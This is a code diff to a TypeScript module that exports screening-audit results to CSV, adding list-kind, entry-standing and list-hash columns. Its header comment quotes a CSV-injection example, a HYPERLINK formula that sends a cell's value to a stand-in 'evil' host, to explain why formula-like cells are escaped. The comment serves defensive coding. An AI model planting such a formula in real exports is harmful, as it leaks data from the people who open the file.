@@ -2,6 +2,7 @@
 // could read as a formula (=, +, -, @, or a tab / carriage return / line feed first) gets a
 // leading apostrophe: list data and page text are not ours, and a name like
 // `=HYPERLINK("http://evil/?"&A1)` must arrive as text (OWASP "CSV injection").
+import { standingDate, standingOf } from '../../core/entry-wording';
 import type { Criterion, Evidence } from '../../core/types';
 import type { AuditEntity, AuditList, AuditMatch, BulkAuditRecord, PageAuditRecord } from './types';
 
@@ -62,6 +63,14 @@ function listsChecked(lists: readonly AuditList[]): string {
     .join('; ');
 }
 
+/** "id@version sha256:<hex>" of every list switched on: the exact list files the check used. */
+function listsCheckedSha256(lists: readonly AuditList[]): string {
+  return lists
+    .filter((l) => l.enabled)
+    .map((l) => `${l.id}@${l.version} sha256:${l.sha256}`)
+    .join('; ');
+}
+
 interface EntryCells {
   list_id: string;
   list_version: string;
@@ -69,7 +78,22 @@ interface EntryCells {
   list_entry: string;
   entry_status: string;
   criteria: string;
+  list_kind: string;
+  entry_standing: string;
+  entry_standing_date: string;
 }
+
+const NO_ENTRY: EntryCells = {
+  list_id: '',
+  list_version: '',
+  list_sha256: '',
+  list_entry: '',
+  entry_status: '',
+  criteria: '',
+  list_kind: '',
+  entry_standing: '',
+  entry_standing_date: '',
+};
 
 /** One set of list cells per list entry the match names (long format: filterable by list). */
 function entryCells(m: AuditMatch, entities: Map<string, AuditEntity>, lists: Map<string, AuditList>): EntryCells[] {
@@ -84,6 +108,10 @@ function entryCells(m: AuditMatch, entities: Map<string, AuditEntity>, lists: Ma
       list_entry: l.entry,
       entry_status: l.status,
       criteria: entry ? criteriaText(entry.criteria) : '',
+      list_kind: list?.kind ?? '',
+      // Removed, revoked and exclusion-revoked entries are history: their standing says which.
+      entry_standing: standingOf(entry ?? l),
+      entry_standing_date: entry ? (standingDate(entry) ?? '') : '',
     };
   });
 }
@@ -112,6 +140,11 @@ export const BULK_CSV_COLUMNS = [
   'input_sha256',
   'checked_at',
   'lists_checked',
+  // Added later; new columns go at the end so column positions stay stable.
+  'list_kind',
+  'entry_standing',
+  'entry_standing_date',
+  'lists_checked_sha256',
 ] as const;
 
 type BulkLine = Record<(typeof BULK_CSV_COLUMNS)[number], string | number>;
@@ -128,6 +161,7 @@ export function bulkCsv(record: BulkAuditRecord): string {
     input_sha256: record.input.sha256,
     checked_at: record.createdAt,
     lists_checked: listsChecked(record.lists),
+    lists_checked_sha256: listsCheckedSha256(record.lists),
   };
   const lines: BulkLine[] = [];
   for (const r of record.rows) {
@@ -143,12 +177,7 @@ export function bulkCsv(record: BulkAuditRecord): string {
         match_type: '',
         entity: '',
         matched_name: '',
-        list_id: '',
-        list_version: '',
-        list_sha256: '',
-        list_entry: '',
-        entry_status: '',
-        criteria: '',
+        ...NO_ENTRY,
         evidence: '',
         lookalike,
         dismissed: '',
@@ -199,6 +228,11 @@ export const PAGE_CSV_COLUMNS = [
   'scanned_at',
   'checked_at',
   'lists_checked',
+  // Added later; new columns go at the end so column positions stay stable.
+  'list_kind',
+  'entry_standing',
+  'entry_standing_date',
+  'lists_checked_sha256',
 ] as const;
 
 type PageLine = Record<(typeof PAGE_CSV_COLUMNS)[number], string | number>;
@@ -212,6 +246,7 @@ export function pageCsv(record: PageAuditRecord): string {
     scanned_at: record.page.scannedAt ?? '',
     checked_at: record.createdAt,
     lists_checked: listsChecked(record.lists),
+    lists_checked_sha256: listsCheckedSha256(record.lists),
   };
   const lines: PageLine[] = [];
   for (const f of record.findings) {
@@ -247,12 +282,7 @@ export function pageCsv(record: PageAuditRecord): string {
       field: '',
       evidence: g.reason ?? '',
       context: '',
-      list_id: '',
-      list_version: '',
-      list_sha256: '',
-      list_entry: '',
-      entry_status: '',
-      criteria: '',
+      ...NO_ENTRY,
       dismissed: '',
       ...tail,
     });
